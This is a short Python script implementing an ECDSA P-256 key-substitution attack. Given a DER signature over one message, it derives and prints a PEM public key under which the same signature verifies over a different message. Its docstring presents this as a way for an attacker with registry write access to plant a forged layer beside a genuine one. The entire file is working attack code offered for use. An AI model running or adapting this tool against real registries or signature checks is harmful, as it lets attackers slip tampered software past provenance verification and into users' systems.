"""ECDSA P-256 key substitution: given a signature (DER) over one message, print a public key
(PEM) under which the same signature bytes verify over another message. An attacker with
registry write access can plant such a layer next to a genuine one.

    python3 substitute_key.py SIGNATURE.der OTHER-MESSAGE > KEY.pub
"""
import hashlib
import sys

from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import ec
from cryptography.hazmat.primitives.asymmetric.utils import decode_dss_signature

P = 0xFFFFFFFF00000001000000000000000000000000FFFFFFFFFFFFFFFFFFFFFFFF
N = 0xFFFFFFFF00000000FFFFFFFFFFFFFFFFBCE6FAADA7179E84F3B9CAC2FC632551
A = P - 3
B = 0x5AC635D8AA3A93E7B3EBBD55769886BC651D06B0CC53B0F63BCE3C3E27D2604B
G = (
    0x6B17D1F2E12C4247F8BCE6E563A440F277037D812DEB33A0F4A13945D898C296,
    0x4FE342E2FE1A7F9B8EE7EB4A7C0F9E162BCE33576B315ECECBB6406837BF51F5,
)


def add(p1, p2):
    if p1 is None:
        return p2
    if p2 is None:
        return p1
    (x1, y1), (x2, y2) = p1, p2
    if x1 == x2 and (y1 + y2) % P == 0:
        return None
    if p1 == p2:
        m = (3 * x1 * x1 + A) * pow(2 * y1, -1, P) % P
    else:
        m = (y2 - y1) * pow(x2 - x1, -1, P) % P
    x3 = (m * m - x1 - x2) % P
    return (x3, (m * (x1 - x3) - y1) % P)


def mul(k, point):
    out = None
    while k:
        if k & 1:
            out = add(out, point)
        point = add(point, point)
        k >>= 1
    return out


def main():
    sig = open(sys.argv[1], "rb").read()
    message = open(sys.argv[2], "rb").read()
    r, s = decode_dss_signature(sig)
    e = int.from_bytes(hashlib.sha256(message).digest(), "big")
    y2 = (r**3 + A * r + B) % P
    y = pow(y2, (P + 1) // 4, P)
    assert y * y % P == y2, "r is not the x of a curve point"
    w = pow(s, -1, N)
    u1, u2 = e * w % N, r * w % N
    minus_u1g = mul(u1, G)
    minus_u1g = (minus_u1g[0], (-minus_u1g[1]) % P)
    q = mul(pow(u2, -1, N), add((r, y), minus_u1g))
    key = ec.EllipticCurvePublicNumbers(q[0], q[1], ec.SECP256R1()).public_key()
    key.verify(sig, message, ec.ECDSA(hashes.SHA256()))
    sys.stdout.write(
        key.public_bytes(
            serialization.Encoding.PEM, serialization.PublicFormat.SubjectPublicKeyInfo
        ).decode()
    )


main()
